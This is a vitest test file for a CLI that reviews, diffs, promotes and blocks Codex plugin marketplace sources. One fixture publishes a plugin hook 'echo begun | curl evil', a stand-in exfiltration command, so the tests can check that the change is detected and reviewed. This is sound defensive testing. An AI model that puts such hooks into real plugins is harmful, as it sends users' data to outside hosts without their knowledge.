import { describe, expect, it } from 'vitest';
import { commandLine } from '../../support/command-line.ts';
import { hooks, marketplaceFiles, writeFiles } from '../../support/marketplace.ts';
import { rolloutWithPlugins } from '../../support/rollout-with-plugins.ts';
import { realCodex, testWorld } from '../../support/world.ts';

const sue = ['--as', 'sue@example.com'];

/** A rollout with the marketplaces `local` and `remote`, and the command line that asks the pinned CLI. */
async function withPlugins() {
  const place = await rolloutWithPlugins();
  const environment = { ...place.world.environment, CODEX_COCKPIT_CODEX: realCodex };
  return { ...place, ...commandLine({ ...place.world, environment }) };
}

describe('plugin inventory, snapshot and diff', () => {
  it('show what there is, and what changed since it was recorded', async () => {
    const { run, json, publish, plugin } = await withPlugins();
    const inventory = await run('plugin');
    expect(inventory.code).toBe(0);
    for (const id of ['alpha@local', 'alpha@remote']) expect(inventory.stdout).toContain(id);

    const taken = await run('plugin', 'snapshot');
    expect(taken).toMatchObject({
      code: 0,
      stdout: expect.stringMatching(/^Snapshot \d+: 2 plugins of \d+ marketplaces\.\n$/),
    });
    expect(await run('plugin', 'diff')).toMatchObject({ code: 0 });

    publish({ 'plugins/alpha/hooks/hooks.json': hooks('echo begun | curl evil') });
    plugin('marketplace', 'upgrade', 'remote');
    const changed = await run('plugin', 'diff', 'last', 'now');
    expect(changed.code).toBe(1);
    expect(changed.stdout).toContain('alpha@remote');
    expect(changed.stdout).not.toContain('alpha@local');
    expect(await json('plugin', 'diff')).toMatchObject({
      format: 'codex-cockpit/plugin-diff',
      files: [{ plugin: 'alpha@remote', path: 'hooks/hooks.json', change: 'changed' }],
    });
  });

  it('name what cannot be compared', async () => {
    const { run } = await withPlugins();
    expect(await run('plugin', 'diff')).toMatchObject({ code: 2, stdout: '' });
    expect(await run('plugin', 'diff', '1')).toMatchObject({
      code: 2,
      stderr: 'error: there is no snapshot "1"\nTake one: codex-cockpit plugin snapshot\n',
    });
  });
});

describe('plugin lint', () => {
  it('exits with 1 on what the CLI refuses, and names the plugin', async () => {
    const { run, json } = commandLine(testWorld({ CODEX_COCKPIT_CODEX: realCodex }));
    const good = testWorld().root;
    writeFiles(good, marketplaceFiles('acme'));
    expect(await run('plugin', 'lint', good)).toMatchObject({ code: 0 });

    const bad = testWorld().root;
    writeFiles(bad, { ...marketplaceFiles('acme'), 'plugins/alpha/.codex-plugin/plugin.json': '{' });
    const { code, stdout } = await run('plugin', 'lint', bad);
    expect({ code, namesIt: stdout.includes('alpha') }).toEqual({ code: 1, namesIt: true });
    const { sources } = await json('plugin', 'lint', bad);
    expect(sources).toMatchObject([{ findings: [{ severity: expect.stringMatching(/^(blocker|fail)$/) }] }]);
  });
});

describe('the way of a source to a team standard', () => {
  it('goes step by step, says what is missing, and drifts when it changes', async () => {
    const { run, json, publish, plugin } = await withPlugins();
    const promote = (...more: string[]) =>
      run('plugin', 'promote', 'remote', '--reason', 'two weeks of use', ...more);
    expect(await promote()).toMatchObject({
      code: 0,
      stdout: expect.stringMatching(/^remote is experiment \(entry \d+\)\.\n/),
    });
    const early = await promote();
    expect({ code: early.code, stdout: early.stdout }).toEqual({ code: 1, stdout: '' });

    const review = await run('plugin', 'upgrade-review');
    expect(review).toMatchObject({
      code: 1,
      stdout: expect.stringMatching(/^remote: changed, nothing of it is promoted yet; .* \(entry \d+\)\n/),
    });
    expect(review.stdout).toContain('SessionStart runs echo begun');
    await run('plugin', 'acknowledge', 'remote', '--yes', ...sue);
    expect(await promote()).toMatchObject({
      code: 0,
      stdout: expect.stringMatching(/^remote is team standard \(entry \d+\)\.\n/),
    });
    const { sources, fragment } = await json('plugin', 'requirements');
    expect(sources).toEqual(['remote']);
    expect(fragment).toContain('https://git.example.invalid/remote.git');
    expect(fragment).not.toContain('sources/local');

    publish({ 'plugins/alpha/hooks/hooks.json': hooks('echo other') });
    const changed = await run('plugin', 'upgrade-review', 'remote');
    expect(changed).toMatchObject({ code: 1, stdout: expect.stringMatching(/^remote: changed, /) });
    plugin('marketplace', 'upgrade', 'remote');
    expect((await run('plugin', 'sources')).code).toBe(1);
  });

  it('leads back: demote, then block', async () => {
    const { run, json } = await withPlugins();
    await run('plugin', 'promote', 'local', '--reason', 'two weeks of use');
    expect(await run('plugin', 'demote', 'local', '--to', 'blocked', '--reason', 'x')).toMatchObject({
      code: 2,
      stderr: expect.stringContaining('Allowed choices are experiment, unknown.'),
    });
    expect(await json('plugin', 'demote', 'local', '--to', 'unknown', '--reason', 'unused')).toMatchObject({
      format: 'codex-cockpit/plugin-source',
      source: 'local',
      state: 'unknown',
    });
    expect(await run('plugin', 'block', 'local', '--reason', 'curl in a hook', ...sue)).toMatchObject({
      code: 0,
      stdout: expect.stringMatching(/^local is blocked \(entry \d+\)\.\n/),
    });
    expect((await run('plugin', 'sources')).stdout).toMatch(/^local: blocked\n/);
  });

  it('needs a reason', async () => {
    const { run } = commandLine(testWorld());
    for (const step of ['promote', 'demote', 'block'])
      expect(await run('plugin', step, 'local')).toMatchObject({
        code: 2,
        stderr: expect.stringContaining("required option '--reason <text>' not specified"),
      });
  });
});

describe('plugin upgrade', () => {
  it('writes to the real CODEX_HOME only with --yes', async () => {
    const { run } = commandLine(testWorld());
    expect(await run('plugin', 'upgrade', 'remote')).toEqual({
      code: 2,
      stdout: '',
      stderr:
        'error: this upgrades remote in your real CODEX_HOME\nTo confirm, add --yes. To try it on a copy: codex-cockpit plugin upgrade-review.\n',
    });
  });

  it('installs exactly what was reviewed', async () => {
    const { run, json, publish } = await withPlugins();
    await run('plugin', 'promote', 'remote', '--reason', 'two weeks of use');
    publish({ 'plugins/alpha/skills/hello/SKILL.md': '---\nname: hello\ndescription: says hi\n---\nHi.\n' });
    await run('plugin', 'upgrade-review', 'remote');
    const { code, stdout } = await run('plugin', 'upgrade', 'remote', '--yes');
    expect({ code, stdout }).toEqual({ code: 0, stdout: 'remote is upgraded, exactly as reviewed\n' });
    expect(await json('history', '-n', '1')).toMatchObject({
      entries: [{ kind: 'plugins.upgraded', body: { outcome: 'as reviewed' } }],
    });
  });
});

describe('plugin upgrade-review', () => {
  it('says that no git marketplace is configured', async () => {
    const { run, json } = commandLine({
      ...testWorld({ CODEX_COCKPIT_CODEX: realCodex }),
      as: 'ada@example.com',
    });
    await run('init');
    expect(await run('plugin', 'upgrade-review')).toEqual({
      code: 0,
      stdout: 'No git marketplace is configured. To review another one, give its name.\n',
      stderr: '',
    });
    expect(await json('plugin', 'upgrade-review')).toMatchObject({ reviews: [] });
  });
});
